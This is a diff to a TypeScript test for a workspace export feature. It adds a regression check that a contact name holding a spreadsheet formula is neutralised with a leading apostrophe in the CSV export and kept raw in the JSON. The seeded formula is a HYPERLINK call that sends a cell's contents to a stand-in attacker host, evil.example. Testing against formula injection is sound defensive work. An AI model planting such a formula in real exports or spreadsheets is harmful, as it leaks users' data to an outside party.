@@ -62,6 +62,8 @@ async function waitReady(who: Who, id: string): Promise<WorkspaceExport> {
   }
 }
 
+const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';
+
 async function seed(who: Who) {
   const post = async (url: string, payload: object) => {
     const res = await who.request({ method: 'POST', url, payload });
@@ -73,7 +75,8 @@ async function seed(who: Who) {
   const ids: string[] = [];
   for (let i = 0; i < 7; i++) {
     const c = await post('/api/v1/contacts', {
-      firstName: `Ann ${i}`,
+      // a formula: it must not run when contacts.csv is opened in a spreadsheet (issue 27, finding 8)
+      firstName: i === 1 ? FORMULA : `Ann ${i}`,
       lastName: i === 0 ? 'Line\nBreak' : 'Doe',
       email: uniqueEmail(`export${i}`),
       companyId: company.id,
@@ -151,6 +154,9 @@ describe('workspace export', () => {
       header: true,
     }).data;
     expect(contacts.map((c) => c.last_name)).toContain('Line\nBreak');
+    // text neutralised as every other export does (a leading apostrophe); the JSON keeps the value
+    expect(contacts.map((c) => c.first_name)).toContain(`'${FORMULA}`);
+    expect(contacts.map((c) => c.first_name)).not.toContain(FORMULA);
     expect(JSON.parse(contacts[0]!.custom_fields!)).toHaveProperty('tier');
     expect(Object.keys(contacts[0]!)).not.toContain('workspace_id');
     // PostgreSQL formats the rows: the same values a JavaScript reader of the rows would print
@@ -167,6 +173,7 @@ describe('workspace export', () => {
       expect(JSON.parse(contacts[i]!.custom_fields!)).toEqual(r.custom_fields);
     });
     expect(contactsJson[0]).not.toHaveProperty('workspace_id');
+    expect(contactsJson.map((c) => c.first_name)).toContain(FORMULA);
     const ledger = JSON.parse(files.get('credit-ledger.json')!) as { amount: unknown; balance_after: unknown }[];
     expect(typeof ledger[0]!.amount).toBe('number');
     const fields = JSON.parse(files.get('custom-fields.json')!) as { required: unknown; archived_at: unknown }[];
